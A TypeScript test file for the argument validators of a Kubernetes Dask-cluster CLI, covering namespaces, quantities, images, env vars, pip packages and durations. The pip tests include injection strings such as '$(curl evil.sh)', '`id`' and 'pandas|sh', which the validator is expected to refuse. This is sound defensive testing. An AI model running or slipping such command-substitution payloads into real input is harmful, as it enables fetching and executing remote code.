import { describe, expect, it } from 'vitest';
import { UsageError } from '../../../src/core/errors.ts';
import {
  parseClusterName,
  parseCount,
  parseDuration,
  parseEnv,
  parseImage,
  parseNamespace,
  parsePip,
  parseQuantity,
  parseTimeout,
} from '../../../src/core/validate.ts';

/** Asserts the failure a user sees: a usage error (exit 2) whose first line names the flag. */
function expectUsageError(run: () => unknown, flag: string): UsageError {
  let caught: unknown;
  try {
    run();
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(UsageError);
  const error = caught as UsageError;
  expect(error.exitCode).toBe(2);
  expect(error.message.split('\n')[0]).toContain(flag);
  return error;
}

describe('parseNamespace', () => {
  it('takes DNS labels and refuses what names no namespace, ".." above all, which an API path reads as every namespace', () => {
    expect(parseNamespace('data-2')).toBe('data-2');
    for (const bad of ['..', '.', 'a/b', 'Bad_NS', '-a', 'a-', 'a'.repeat(64), '%2e%2e']) expect(() => parseNamespace(bad)).toThrow(UsageError);
    expectUsageError(() => parseNamespace('..'), 'invalid namespace ".." (-n)');
  });
});

describe('parseCount', () => {
  it.each([
    ['0', 0],
    ['4', 4],
    [' 4 ', 4],
  ])('accepts %j as %d', (text, n) => {
    expect(parseCount('workers', text)).toBe(n);
  });

  it.each(['-1', 'abc', '1.5', '', '+4', '1e3'])('rejects %j, naming --workers and an example', (text) => {
    expect(expectUsageError(() => parseCount('workers', text), '--workers').message).toContain('--workers 4');
  });

  it('enforces the bounds the command asks for', () => {
    expect(parseCount('threads', '1', { min: 1, max: 1024 })).toBe(1);
    expectUsageError(() => parseCount('threads', '0', { min: 1, max: 1024 }), '--threads');
    expectUsageError(() => parseCount('threads', '1025', { min: 1, max: 1024 }), '--threads');
  });
});

describe('parseQuantity', () => {
  it.each([
    ['cpu', '2'],
    ['cpu', '500m'],
    ['cpu', '1.5'],
    ['memory', '4Gi'],
    ['memory', '512Mi'],
    ['memory', '1G'],
  ] as const)('accepts --%s %s unchanged', (flag, text) => {
    expect(parseQuantity(flag, text)).toBe(text);
  });

  it.each(['abc', '-1', '0', '0.0', '4GB', '4gi', ''])('rejects --memory %j with an example of a valid quantity', (text) => {
    expect(expectUsageError(() => parseQuantity('memory', text), '--memory').message).toContain('4Gi');
  });

  it('rejects --cpu with a CPU example, not a memory one', () => {
    expect(expectUsageError(() => parseQuantity('cpu', 'two'), '--cpu').message).toContain('500m');
  });

  it('refuses memory 512m (milli-bytes) and suggests 512Mi', () => {
    expect(expectUsageError(() => parseQuantity('memory', '512m'), '--memory').message).toContain('512Mi');
  });

  it('names the flag it was given as, e.g. the scheduler\'s', () => {
    expect(expectUsageError(() => parseQuantity('memory', 'lots', 'scheduler-memory'), 'invalid --scheduler-memory "lots"').message).toContain('--scheduler-memory 4Gi');
    expect(expectUsageError(() => parseQuantity('cpu', 'abc', 'scheduler-cpu'), 'invalid --scheduler-cpu "abc"').message).toContain('--scheduler-cpu 500m');
  });
});

describe('parseImage', () => {
  const digest = `sha256:${'0123456789abcdef'.repeat(4)}`;

  it.each([
    'ghcr.io/dask/dask:2026.8.0',
    'localhost:5000/x/y:tag',
    'registry:5000/dask:tag',
    'kind-registry:5000/dask',
    'daskdev/dask',
    'dask',
    `ghcr.io/dask/dask@${digest}`,
    `ghcr.io/dask/dask:2026.8.0@${digest}`,
    'registry.example.com:443/team/dask_custom:v1.2-rc.1',
  ])('accepts %s', (ref) => {
    expect(parseImage(ref)).toBe(ref);
  });

  it.each(['ghcr.io/Dask/dask', 'Daskdev/dask', ':tag', 'dask dask', 'a::b', 'dask:', 'dask@sha256:abc', ''])('rejects %j with an example reference', (ref) => {
    expect(expectUsageError(() => parseImage(ref), '--image').message).toContain('ghcr.io/dask/dask:');
  });
});

describe('parseEnv', () => {
  it('splits NAME=VALUE at the first "=", keeping "=" in the value and allowing an empty value', () => {
    expect(parseEnv(['A=1', 'JDBC=url?user=me', 'EMPTY='])).toEqual([
      { name: 'A', value: '1' },
      { name: 'JDBC', value: 'url?user=me' },
      { name: 'EMPTY', value: '' },
    ]);
  });

  it('keeps the last value of a repeated name, as a shell would', () => {
    expect(parseEnv(['LEVEL=info', 'OTHER=x', 'LEVEL=debug'])).toEqual([
      { name: 'LEVEL', value: 'debug' },
      { name: 'OTHER', value: 'x' },
    ]);
  });

  it.each(['NOVALUE', '=s3cret', '1ABC=s3cret', 'A B=s3cret'])('rejects %j, showing the NAME=VALUE form and never the value', (text) => {
    const { message } = expectUsageError(() => parseEnv([text]), '--env');
    expect(message).toContain('NAME=VALUE');
    expect(message).not.toContain('s3cret');
  });

  it.each(['POD_NAME', 'DASK_DISTRIBUTED__SCHEDULER__HTTP__ROUTES'])('rejects %s, which the manifests set themselves', (name) => {
    expectUsageError(() => parseEnv([`${name}=x`]), `--env ${name}`);
  });

  it('points EXTRA_PIP_PACKAGES users to --pip', () => {
    expect(expectUsageError(() => parseEnv(['EXTRA_PIP_PACKAGES=pandas']), '--env').message).toContain('--pip');
  });
});

describe('parsePip', () => {
  it('accepts requirement specifiers, repeated or space-separated', () => {
    expect(parsePip(['prefect prefect-dask', 'pandas>=2', 'dask[dataframe]==2026.8.0'])).toEqual([
      'prefect',
      'prefect-dask',
      'pandas>=2',
      'dask[dataframe]==2026.8.0',
    ]);
  });

  it('gives no packages for no flag or blank values', () => {
    expect(parsePip([])).toEqual([]);
    expect(parsePip(['  '])).toEqual([]);
  });

  it.each(['$(curl evil.sh)', '`id`', 'pandas|sh', '-e'])('rejects %j, which is not a requirement', (text) => {
    expectUsageError(() => parsePip([text]), '--pip');
  });
});

describe('parseDuration', () => {
  it.each([
    ['90s', 90_000],
    ['5m', 300_000],
    ['1h30m', 5_400_000],
    ['1.5h', 5_400_000],
    ['596h', 2_145_600_000],
    ['500ms', 500],
  ])('reads %s as %d ms', (text, ms) => {
    expect(parseDuration('timeout', text)).toBe(ms);
  });

  it.each(['5x', 'm5', '', '5m30', 'five'])('rejects %j with an example duration', (text) => {
    expect(expectUsageError(() => parseDuration('timeout', text), '--timeout').message).toContain('5m');
  });

  it('asks for the unit of a bare number, as kubectl does', () => {
    expect(expectUsageError(() => parseDuration('since', '30'), '--since').message).toContain('needs its unit, e.g. 30s');
  });

  it('refuses what no timer can wait for (Node fires a longer one at once)', () => {
    expect(expectUsageError(() => parseDuration('timeout', '600h'), '--timeout').message).toContain('at most 596h');
  });
});

describe('parseTimeout', () => {
  it('refuses 0, which would give up at once, and points at --no-wait', () => {
    expect(expectUsageError(() => parseTimeout('0s'), '--timeout').message).toContain('--no-wait');
    expect(parseTimeout('90s')).toBe(90_000);
  });
});

describe('parseClusterName', () => {
  it.each(['dask', 'etl-2', 'a', 'a'.repeat(53)])('accepts %s', (name) => {
    expect(parseClusterName(name)).toBe(name);
  });

  it('rejects a name whose "<name>-scheduler" Service would exceed 63 characters', () => {
    expectUsageError(() => parseClusterName('a'.repeat(54)), '--name');
  });

  it.each(['Dask', '1dask', 'dask-', 'my_cluster', ''])('rejects %j, pointing to --name', (name) => {
    expectUsageError(() => parseClusterName(name), '--name');
  });
});
